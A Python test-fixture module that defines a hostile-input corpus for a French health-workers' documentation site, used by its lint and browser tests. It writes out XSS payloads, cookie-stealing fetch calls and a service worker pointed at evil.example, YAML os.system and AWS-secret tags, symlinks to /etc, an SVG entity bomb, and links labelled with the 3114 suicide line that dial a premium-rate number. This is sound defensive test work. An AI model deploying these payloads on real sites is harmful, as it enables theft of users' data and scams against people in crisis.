"""The hostile-input corpus: what a proposal or a data file could hold to attack a reader.

Each case is refused by the content check (scripts/lint.py) with a French `file:line` message, or
neutralised in the built page (checked in Chromium by tests/test_hostile.py: no dialog, no request
off 127.0.0.1, no event attribute or script address in the page, no Content-Security-Policy
violation, the payload shown as text or gone). Many are both.

Every payload carries the word XSSMARK, so that the pages it reached can be found in the build.
The cases on the fields of front matter and data files are made from the JSON Schemas themselves
(soignants/model/schemas/): a field added to a schema is attacked too.
"""

from __future__ import annotations

from dataclasses import dataclass, field
import json
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SCHEMAS = ROOT / "soignants" / "model" / "schemas"

# --- payloads -----------------------------------------------------------------------------------

# Raw HTML and Markdown in a page's body: refused by the check (code) and removed by the build.
BODY = [
    ("script", '<script>alert("XSSMARK")</script>', "html-dangereux"),
    ("img-onerror", '<img src="x.png" onerror="alert(\'XSSMARK\')">', "html-dangereux"),
    ("svg-onload", '<svg onload="alert(\'XSSMARK\')"><circle r="1"/></svg>', "html-dangereux"),
    ("svg-script", '<svg><script>alert("XSSMARK")</script></svg>', "html-dangereux"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(\'XSSMARK\')"><text>XSSMARK</text></a></svg>',
     "html-dangereux"),
    ("comment-closes-early", '<!--><img src="x.png" onerror="alert(\'XSSMARK\')">-->', "html-dangereux"),
    ("comment-bang", '<!-- x --!><img src="x.png" onerror="alert(\'XSSMARK\')">', "html-dangereux"),
    ("entity-javascript", '<a href="&#106;avascript:alert(\'XSSMARK\')">XSSMARK</a>', "html-dangereux"),
    ("hex-entity-javascript", '<a href="jav&#x61;script:alert(\'XSSMARK\')">XSSMARK</a>', "html-dangereux"),
    ("tab-javascript", '<a href="java\tscript:alert(\'XSSMARK\')">XSSMARK</a>', "html-dangereux"),
    ("markdown-javascript", "[XSSMARK](javascript:alert('XSSMARK'))", "html-dangereux"),
    ("markdown-entity-javascript", "[XSSMARK](&#106;avascript:alert('XSSMARK'))", "html-dangereux"),
    ("reference-javascript", "[XSSMARK][x]\n\n[x]: javascript:alert('XSSMARK')", "html-dangereux"),
    ("data-html", '<a href="data:text/html,<script>alert(\'XSSMARK\')</script>">XSSMARK</a>', "html-dangereux"),
    ("iframe", '<iframe src="https://evil.example/XSSMARK"></iframe>', "html-dangereux"),
    ("object", '<object data="https://evil.example/XSSMARK.swf"></object>', "html-dangereux"),
    ("embed", '<embed src="https://evil.example/XSSMARK.swf">', "html-dangereux"),
    ("form-action", '<form action="https://evil.example/XSSMARK"><input name="q"><button>XSSMARK</button></form>',
     "html-dangereux"),
    ("base", '<base href="https://evil.example/XSSMARK/">', "html-dangereux"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/XSSMARK">', "html-dangereux"),
    ("style-import", '<style>@import url("https://evil.example/XSSMARK.css");</style>', "html-dangereux"),
    ("style-css-escape", '<style>p { background: \\75 rl(//evil.example/XSSMARK.png) }</style>', "html-dangereux"),
    ("style-attribute-escape", '<p style="background:u\\72l(//evil.example/XSSMARK.png)">XSSMARK</p>',
     "html-dangereux"),
    ("link-data-stylesheet", '<link rel="stylesheet" href="data:text/css,body{background:url(//evil.example/XSSMARK)}">',
     "html-dangereux"),
    ("ping", '<a href="#ici" ping="https://evil.example/XSSMARK">XSSMARK</a>', "html-dangereux"),
    ("details-ontoggle", '<details open ontoggle="alert(\'XSSMARK\')"><summary>XSSMARK</summary></details>',
     "html-dangereux"),
    ("mutation-math", '<math><mtext><table><mglyph><style><img src="x.png" onerror="alert(\'XSSMARK\')">',
     "html-dangereux"),
    ("img-external", '<img src="https://evil.example/XSSMARK.png" alt="XSSMARK">', "ressource-externe"),
    ("img-protocol-relative", '<img src="//evil.example/XSSMARK.png" alt="XSSMARK">', "ressource-externe"),
    ("markdown-image-external", "![XSSMARK](https://evil.example/XSSMARK.png)", "ressource-externe"),
    ("audio-external", '<audio src="https://evil.example/XSSMARK.mp3" controls></audio>', "ressource-externe"),
    ("video-poster", '<video poster="https://evil.example/XSSMARK.png"></video>', "html-dangereux"),
    ("srcset", '<img src="a.png" srcset="https://evil.example/XSSMARK.png 2x" alt="XSSMARK">', "html-dangereux"),
    ("attr-list-onclick", "XSSMARK paragraphe\n{: onclick=\"alert('XSSMARK')\" }", "html-dangereux"),
    ("input-image", '<input type="image" src="https://evil.example/XSSMARK.png">', "html-dangereux"),
    ("button-formaction", '<button formaction="https://evil.example/XSSMARK">XSSMARK</button>', "html-dangereux"),
]

# A value of a front-matter or data-file field: text, so escaped where it lands.
FIELD_PAYLOAD = "XSSMARK <img src=x onerror=alert(1)> \"><script>alert(1)</script> [l](javascript:alert(1)) *x*"
URL_PAYLOAD = "javascript:alert('XSSMARK')"

# Personal data in a testimony, spelled to get past a naive pattern (refused: donnee-personnelle).
PERSONAL = [
    ("phone-zero-width", "Il m'a donné son numéro, le 06\u200b12\u200b34\u200b56\u200b78."),
    ("phone-dots", "Son portable : 06.12.34.56.78."),
    ("phone-international", "Joignable au +33 (0)6 12 34 56 78."),
    ("phone-0033", "Joignable au 0033 6 12 34 56 78."),
    ("phone-fullwidth", "Au ０６ １２ ３４ ５６ ７８, le soir."),
    ("email-fullwidth-at", "Écrivez-lui : jean.dupont＠exemple.fr"),
    ("email-obfuscated", "Écrivez-lui : jean.dupont (at) exemple (point) fr"),
    ("nir", "Son numéro de sécurité sociale, 1 85 05 78 006 084 36, était sur la feuille."),
    ("street", "Le cabinet, 12 rue des Lilas, était vide."),
    ("postcode-town", "Installé à 13400 Aubagne depuis dix ans."),
    ("named-doctor", "Le Dr Martin m'a appelé le lendemain."),
    ("named-madame", "Madame Durand est venue me voir."),
]


# --- the fields of the schemas -----------------------------------------------------------------

def _resolve(schema: dict, root: dict) -> dict:
    while "$ref" in schema:
        name = schema["$ref"].split("/")[-1]
        schema = root.get("$defs", {}).get(name, {})
    return schema


def text_fields(schema: dict, root: dict | None = None, path: tuple = ()) -> list[tuple]:
    """Paths of the string fields a contributor writes freely (no enum, pattern, format)."""
    root = root or schema
    schema = _resolve(schema, root)
    kind = schema.get("type")
    if kind == "string":
        return [] if any(k in schema for k in ("enum", "format", "pattern", "const")) else [path]
    if kind == "array" and isinstance(schema.get("items"), dict):
        return text_fields(schema["items"], root, path + (0,))
    found = []
    for name, sub in schema.get("properties", {}).items():
        found += text_fields(sub, root, path + (name,))
    return found


def schema(name: str) -> dict:
    return json.loads((SCHEMAS / f"{name}.schema.json").read_text(encoding="utf-8"))


@dataclass
class Case:
    ident: str
    kind: str
    payload: str = ""
    code: str | None = None  # the content check refuses it with this code (or None: neutralised only)
    path: tuple = field(default_factory=tuple)


# --- issue 20 B: page kinds, mkdocs.yml, bounded work, distress data -------------------------------
# (kept apart from the other helpers' cases; tests/test_hostile.py tries them in the block of the
# same name). Kinds:
# - "page": the front matter of a page that is neither a fiche nor a testimony, `path[0]` the page
#   under docs/, the payload a YAML mapping merged into it;
# - "config": lines appended to mkdocs.yml (as above);
# - "front" / "body": a fiche's front matter or body (as above);
# - "comite", "distress": data/comite.yml and data/recherche-detresse.yml, the payload a YAML
#   mapping of what to add.

PAGE_CASES_20B = [
    ("page-statut-balisage", "a-propos/index.md", {"status": "\"><img src=x onerror=alert(1)>XSSMARK"},
     "valeur-interdite"),
    ("page-gabarit", "a-propos/index.md", {"template": "base.html"}, "valeur-interdite"),
    ("page-gabarit-redirection", "a-propos/index.md",
     {"template": "redirect.html", "location": "javascript:alert('XSSMARK')"}, "valeur-interdite"),
    ("page-icone-chemin", "fiches/index.md", {"icon": "../../../../etc/passwd"}, "champ-invalide"),
    ("page-icone-inconnue", "fiches/index.md", {"icon": "material/xssmark"}, "valeur-interdite"),
    ("page-hide-inconnu", "index.md", {"hide": ["navigation", "bandeau-aide"]}, "valeur-interdite"),
    ("page-search-balise", "a-propos/index.md", {"search": {"exclude": "<script>XSSMARK</script>"}},
     "champ-invalide"),
    ("page-aide-exclue", "aide/index.md", {"search": {"exclude": True}}, "aide-hors-recherche"),
    ("page-aide-anglaise-exclue", "aide/index.en.md", {"search": {"exclude": True}}, "aide-hors-recherche"),
    ("page-aide-releguee", "aide/annuaire.md", {"search": {"boost": 0.1}}, "aide-hors-recherche"),
    ("page-date-brute", "bibliographie/index.md", {"revision_date": "<img src=x onerror=alert('XSSMARK')>"},
     "champ-inconnu"),
    ("page-controle", "index.md", {"title": "Accueil\x07XSSMARK"}, "caractere-de-controle"),
    ("page-anglaise-statut", "index.en.md", {"status": "XSSMARK"}, "valeur-interdite"),
]

CONFIG_CASES_20B = [
    ("config-python-tag", 'copyright: !!python/object/apply:os.system ["echo XSSMARK"]\n'),
    ("config-python-name", "extra_javascript: !!python/name:os.system\n"),
    ("config-env-home", "copyright: !ENV HOME\n"),
    ("config-env-secret", 'site_description: !ENV [AWS_SECRET_ACCESS_KEY, "XSSMARK"]\n'),
    ("config-inherit", "INHERIT: docs/images/XSSMARK.yml\n"),
    ("config-extra-scope", "extra:\n  bandeau: []\n  scope: '\"),alert(\"XSSMARK'\n"),
    ("config-extra-polyfills", "extra:\n  bandeau: []\n  polyfills:\n    - images/XSSMARK.js\n"),
    ("config-script-local", "extra_javascript:\n  - assets/javascripts/quitter.js\n  - images/XSSMARK.js\n"),
    ("config-style-local", "extra_css:\n  - images/XSSMARK.css\n"),
    ("config-custom-dir", "theme:\n  name: material\n  custom_dir: docs/images\n"),
    ("config-snippets", "markdown_extensions:\n  - pymdownx.snippets:\n      base_path: [/]\n"),
    ("config-superfences-custom", "markdown_extensions:\n  - pymdownx.superfences:\n      custom_fences:\n"
                                  "        - name: XSSMARK\n          class: x\n"),
    ("config-forge-sosie", "extra:\n  bandeau: []\n  signalement:\n    forge: https://github.com.evil.example/XSSMARK\n"),
    ("config-forge-arobase", "extra:\n  bandeau: []\n  signalement:\n    forge: https://github.com@evil.example/XSSMARK\n"),
    ("config-forge-idn", "extra:\n  bandeau: []\n  signalement:\n    forge: https://gіthub.com/urps/XSSMARK\n"),
    ("config-site-name", "site_name: \"Soigner <img src=x onerror=alert('XSSMARK')>\"\n"),
    ("config-palette", "theme:\n  name: material\n  custom_dir: overrides\n  palette:\n    - scheme: default\n"
                       "      toggle:\n        icon: material/weather-night\n        name: '\"><b>XSSMARK</b>'\n"),
    ("config-palette-media", "theme:\n  name: material\n  custom_dir: overrides\n  palette:\n"
                             "    - media: '\" onfocus=\"alert(1)'\n      scheme: default\n"),
    ("config-copyright", "copyright: \"<a href='tel:+33899000000'>Appelez le 3114 XSSMARK</a>\"\n"),
    ("config-status-label", "extra:\n  bandeau: []\n  status:\n    new: '\"><img src=x onerror=alert(1)>XSSMARK'\n"),
    ("config-docs-dir", "docs_dir: /etc\n"),
    ("config-nav-externe", "nav:\n  - \"Aide urgente XSSMARK\": https://evil.example/aide\n"),
    ("config-separateur", "plugins:\n  - search:\n      separator: '(a+)+$'\n  - i18n\n"),
    ("config-surlignage", "theme:\n  name: material\n  custom_dir: overrides\n  features:\n    - search.highlight\n"),
    ("config-sans-crochet", "hooks: []\n"),
    ("config-aide-exclue", "exclude_docs: |\n  aide/\n"),
    ("config-bandeau", "extra:\n  bandeau:\n    - nom_court: SPS\n      telephone: 08 99 00 00 00\n"),
]

BOUNDED_BODIES_20B = [
    ("epuisement-crochets-100000", "[" * 100_000),
    ("epuisement-balises-a-33000", "<a " * 33_000),
    ("epuisement-liens-ouverts", "[x](" * 25_000),
    ("epuisement-emphase", "*a* " * 25_000),
    ("epuisement-liste-3000", "- a\n" * 3_000),
    ("epuisement-balises-paragraphes", "<a \n\n" * 2_000),
    ("epuisement-crochets-lointains", "[" * 3 + "mot " * 60_000),
    ("epuisement-balise-lointaine", ("<a " + "mot " * 2_000 + "\n\n") * 30),
]

DISTRESS_CASES_20B = [
    ("detresse-exception-veux-me-suicider", "veux me suicider"),
    ("detresse-exception-envie-de-mourir", "envie de mourir"),
    ("detresse-exception-en-finir", "en finir"),
    ("detresse-exception-kill-myself", "kill myself"),
]


def cases_20b() -> list[Case]:
    cases = [Case(ident, "page", json.dumps(meta, ensure_ascii=False), code, (page,))
             for ident, page, meta, code in PAGE_CASES_20B]
    cases += [Case(ident, "config", payload, "configuration-refusee") for ident, payload in CONFIG_CASES_20B]
    cases += [Case(ident, "body", payload, "texte-demesure") for ident, payload in BOUNDED_BODIES_20B]
    cases.append(Case("front-historique-controle", "front",
                      'historique:\n  - date: "2026-11-01"\n    texte: "XSSMARK\\x01 une entrée"\n',
                      "caractere-de-controle"))
    cases.append(Case("comite-forge-retour-ligne", "comite",
                      json.dumps({"nom": "Dr Anne Exemple", "role": "membre", "specialite": "médecine générale",
                                  "depuis": "2026-01-01", "forge": "alice\n"}), "champ-invalide"))
    cases += [Case(ident, "distress", expression, "detresse-avalee") for ident, expression in DISTRESS_CASES_20B]
    return cases


# === issue 20, part A: the HTML content can produce, call links, look-alike help, contributed code ===
# (kept in one block, apart from the other parts' cases, to ease merging)
# Each body case: (ident, payload, code, class). The class names the attack (for the note's counts):
# « appel » a call that lies through a link, « imitation » a look-alike of the help or the theme,
# « clobbering » an id or attribute that answers the page's scripts, « recherche » the search's
# data-pagefind-* attributes, « code » a form or player written by the page.
PREMIUM = "0899000000"  # a premium-rate number (08 99: « services à valeur ajoutée »), never in data/aide.yml
MACHINERY = [
    # calls that lie: the text shows 3114 (national suicide prevention), the target is premium-rate
    ("appel-html", f'<a href="tel:+33{PREMIUM[1:]}">3114 XSSMARK</a>', "appel-hors-marqueur", "appel"),
    ("appel-entite-decimale", f'<a href="&#116;el:{PREMIUM}">3114 XSSMARK</a>', "appel-hors-marqueur", "appel"),
    ("appel-entite-hexa", f'<a href="t&#x65;l:{PREMIUM}">3114 XSSMARK</a>', "appel-hors-marqueur", "appel"),
    ("appel-tabulation", f'<a href="te\tl:{PREMIUM}">3114 XSSMARK</a>', "appel-hors-marqueur", "appel"),
    ("appel-espaces-fines", f'<a href="tel:{PREMIUM}">31\u200914\u202fXSSMARK</a>', "appel-hors-marqueur", "appel"),
    ("appel-balises-dans-le-lien", f'<a href="tel:{PREMIUM}"><b>31</b><i>14</i> XSSMARK</a>', "appel-hors-marqueur",
     "appel"),
    ("appel-chiffres-pleine-chasse", f'<a href="tel:{PREMIUM}">３１１４ XSSMARK</a>', "appel-hors-marqueur", "appel"),
    ("appel-markdown", f"[3114 XSSMARK](tel:{PREMIUM})", "appel-hors-marqueur", "appel"),
    ("appel-markdown-entite", f"[3114 XSSMARK](&#116;el:{PREMIUM})", "appel-hors-marqueur", "appel"),
    ("appel-reference", f"[3114 XSSMARK][n]\n\n[n]: tel:{PREMIUM}", "appel-hors-marqueur", "appel"),
    ("appel-liste-attributs", f'[3114 XSSMARK](#aide){{: href="tel:{PREMIUM}" }}', "appel-hors-marqueur", "appel"),
    ("appel-sms", f'<a href="sms:{PREMIUM}?body=XSSMARK">Écrire au 3114</a>', "appel-hors-marqueur", "appel"),
    ("appel-callto", f'<a href="callto:{PREMIUM}">3114 XSSMARK</a>', "appel-hors-marqueur", "appel"),
    # look-alike help: the strip, « Quitter », the distress and crisis cards, Material's banner,
    # dialog (toast), consent and overlay, a live region that speaks over the page
    ("imitation-bandeau", '<div class="ss-bandeau"><p class="ss-bandeau__titre">Besoin d\'aide ? Appelez le '
     'XSSMARK</p></div>', "html-reserve", "imitation"),
    ("imitation-lien-du-bandeau", '<a class="ss-bandeau__lien" href="https://evil.example/">XSSMARK Idées '
     'suicidaires</a>', "html-reserve", "imitation"),
    ("imitation-quitter", '<a class="ss-quitter__lien" href="https://evil.example/">Quitter XSSMARK</a>',
     "html-reserve", "imitation"),
    ("imitation-encadre-detresse", '<div class="ss-recherche-detresse md-typeset">Quelqu\'un peut vous écouter : '
     'XSSMARK</div>', "html-reserve", "imitation"),
    ("imitation-carte", '<div class="ss-carte"><h2 class="ss-carte__titre">Numéros d\'aide XSSMARK</h2></div>',
     "html-reserve", "imitation"),
    ("imitation-banniere", '<div class="md-banner md-banner--warning">Nouveau numéro d\'écoute : XSSMARK</div>',
     "html-reserve", "imitation"),
    ("imitation-dialogue", '<div class="md-dialog md-dialog--active"><div class="md-dialog__inner">XSSMARK '
     'numéro changé</div></div>', "html-reserve", "imitation"),
    ("imitation-consentement", '<div class="md-consent"><div class="md-consent__overlay"></div>'
     '<div class="md-consent__inner">XSSMARK</div></div>', "html-reserve", "imitation"),
    ("imitation-voile-fixe", "XSSMARK un voile sur toute la page\n{: .md-overlay .md-top }", "html-reserve",
     "imitation"),
    ("imitation-role-dialogue", '<div role="alertdialog" aria-live="assertive" aria-modal="true">XSSMARK</div>',
     "html-reserve", "imitation"),
    ("imitation-tabindex", '<p tabindex="1">XSSMARK en premier au clavier</p>', "html-reserve", "imitation"),
    # DOM clobbering: an element placed before the real one answers the theme's and our lookups
    ("clobbering-config", '<span id="__config">{"base": "//evil.example/", "search": "//evil.example/w.js"} '
     'XSSMARK</span>', "html-reserve", "clobbering"),
    ("clobbering-recherche", '<div id="__search">XSSMARK</div>', "html-reserve", "clobbering"),
    ("clobbering-menu", "XSSMARK\n{: #__drawer }", "html-reserve", "clobbering"),
    ("clobbering-titre", "## __config\n\nXSSMARK", "html-reserve", "clobbering"),
    ("clobbering-modele-detresse", '<div id="ss-recherche-detresse-modele">XSSMARK</div>', "html-reserve",
     "clobbering"),
    ("clobbering-composant", '<div data-md-component="search">XSSMARK</div>', "html-reserve", "clobbering"),
    ("clobbering-global", '<img id="SoignantsSearchEngine" src="x.png" alt="XSSMARK">', "html-reserve",
     "clobbering"),
    ("clobbering-donnees-questionnaire", '<div id="phq-9-resultat" data-ss-resultat>Score normal XSSMARK</div>',
     "html-reserve", "clobbering"),
    # the search's own attributes: a page retitles itself « Numéro d'urgence » and ranks first
    ("recherche-titre", '<p data-pagefind-meta="title:Numéro d\'urgence XSSMARK">texte</p>', "html-reserve",
     "recherche"),
    ("recherche-poids", '<h2 data-pagefind-weight="10">Numéro d\'urgence XSSMARK</h2>', "html-reserve",
     "recherche"),
    ("recherche-corps", '<div data-pagefind-body>XSSMARK</div>', "html-reserve", "recherche"),
    ("recherche-liste-attributs", 'XSSMARK\n{: data-pagefind-filter="edition:fr" }', "html-reserve", "recherche"),
    # a form or a player written by the page (only our questionnaires and directory have one)
    ("code-formulaire", '<form><input name="numero" placeholder="Votre numéro XSSMARK"><button>Être rappelé'
     '</button></form>', "html-reserve", "code"),
    ("code-audio", '<audio src="x.mp3" autoplay>XSSMARK</audio>', "html-reserve", "code"),
]

# Contributed files (content is data): (ident, path under the project, content, code). A content
# starting with « -> » makes a symbolic link to that target.
SVG_NS = 'xmlns="http://www.w3.org/2000/svg"'
USE_BOMB = (f'<svg {SVG_NS} viewBox="0 0 10 10"><defs><g id="a0"><rect width="1" height="1"/></g>'
            + "".join(f'<g id="a{i}"><use href="#a{i - 1}"/><use href="#a{i - 1}"/><use href="#a{i - 1}"/>'
                      f'<use href="#a{i - 1}"/></g>' for i in range(1, 15))
            + '</defs><use href="#a14"/></svg>')
CONTRIBUTED_FILES = [
    ("code-svg-script-prefixe", "docs/images/logo-xssmark.svg",
     '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>navigator.serviceWorker.register("/sw.js")</s:script>'
     '</s:svg>', "html-dangereux"),
    ("code-svg-script-xhtml", "docs/images/xhtml-xssmark.svg",
     f'<svg {SVG_NS} xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>', "html-dangereux"),
    ("code-svg-foreignobject", "docs/images/fo-xssmark.svg",
     f'<svg {SVG_NS}><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="//evil.example/"/>'
     '</foreignObject></svg>', "html-dangereux"),
    ("code-svg-onload", "docs/images/onload-xssmark.svg", f'<svg {SVG_NS} onload="alert(1)"/>', "html-dangereux"),
    ("code-svg-animation", "docs/images/set-xssmark.svg",
     f'<svg {SVG_NS}><set attributeName="href" to="javascript:alert(1)"/></svg>', "html-dangereux"),
    ("code-svg-externe", "docs/images/externe-xssmark.svg",
     f'<svg {SVG_NS}><use href="https://evil.example/x.svg#a"/></svg>', "ressource-externe"),
    ("code-svg-bombe-use", "docs/images/bombe-xssmark.svg", USE_BOMB, "svg-trop-complexe"),
    ("code-svg-entites", "docs/images/entites-xssmark.svg",
     f'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><svg {SVG_NS}><text>&b;</text></svg>',
     "html-dangereux"),
    ("code-script", "docs/assets/javascripts/espion-xssmark.js", "fetch('//evil.example/?'+document.cookie)\n",
     "fichier-non-autorise"),
    ("code-script-qui-remplace-le-notre", "docs/assets/javascripts/quitter.js", "location='//evil.example/'\n",
     "fichier-non-autorise"),
    ("code-service-worker", "docs/sw.js", "self.addEventListener('fetch', e => e.respondWith(fetch('//evil.example/')));\n",
     "fichier-non-autorise"),
    ("code-feuille-de-style", "docs/images/faux-bandeau.css", ".ss-bandeau { display: none }\n",
     "fichier-non-autorise"),
    ("code-page-html", "docs/aide/numero-urgence.html", "<h1>Numéro d'urgence : 08 99 00 00 00</h1>\n",
     "fichier-non-autorise"),
    ("code-manifeste-web", "docs/app.webmanifest", '{"start_url": "//evil.example/"}\n', "fichier-non-autorise"),
    ("code-image-deguisee", "docs/images/photo-xssmark.png", "<html><script>alert(1)</script></html>\n",
     "fichier-non-autorise"),
    ("code-lien-symbolique", "docs/images/secret-xssmark.png", "-> /etc/hostname", "lien-symbolique"),
    ("code-lien-symbolique-donnees", "data/aide-lien.yml", "-> /etc/hostname", "lien-symbolique"),
]
